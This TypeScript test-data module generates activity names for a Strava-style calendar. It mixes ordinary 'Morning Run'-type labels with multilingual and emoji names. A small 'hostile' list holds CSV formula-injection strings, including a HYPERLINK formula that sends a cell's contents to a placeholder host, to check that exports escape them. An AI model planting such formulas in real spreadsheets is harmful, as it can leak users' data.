/** Names of activities: mostly Strava's suggestions, sometimes text that breaks a CSV file. */
import type { Outline } from "./calendar.ts"
import { Random } from "./random.ts"

const words: Readonly<Record<string, string>> = {
  Run: "Run",
  TrailRun: "Trail Run",
  Ride: "Ride",
  GravelRide: "Gravel Ride",
  VirtualRide: "Virtual Ride",
  Swim: "Swim",
  Hike: "Hike",
  Walk: "Walk",
  WeightTraining: "Weight Training",
  Yoga: "Yoga",
  Padel: "Padel",
  AlpineSki: "Alpine Ski",
  NordicSki: "Nordic Ski",
}

const dayPart = (hour: number): string =>
  hour < 11
    ? "Morning"
    : hour < 14
    ? "Lunch"
    : hour < 17
    ? "Afternoon"
    : hour < 21
    ? "Evening"
    : "Night"

const special: ReadonlyArray<(random: Random) => string> = [
  (random) => `${random.int(4, 9)} × 800 m, "all out"`,
  () => "Long and slow, then long and slower",
  () => "Rain 🌧️ all the way ☔",
  () => "🏃‍♀️🏃‍♂️ mit Freunden, Kaffee inklusive",
  () => "Früh übt sich – Höhenmeter!",
  () => "L'étape d'après; \"bonk\" at km 60",
  () => "朝ラン",
  () => "Commute: home → work",
  (random) => `Test #${random.int(2, 90)} / 50% \\ new shoes`,
  () => "Don't ask",
]

/** Spreadsheets would execute these as formulas. */
const hostile: ReadonlyArray<string> = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Click me")',
  '+1+1, but "quoted"',
  "@SUM(1+1)*cmd",
  "-2 degrees",
]

/** Returns the name of an activity that started at the local time `local`; always a single line. */
export const activityName = ({ seed, sport }: Outline, local: number): string => {
  const random = new Random(seed, 61)
  if (random.chance(0.012)) return random.pick(hostile)
  if (random.chance(0.2)) return random.pick(special)(random)
  const word = words[sport.sport_type] ?? sport.sport_type
  return `${dayPart(new Date(local).getUTCHours())} ${word}`
}
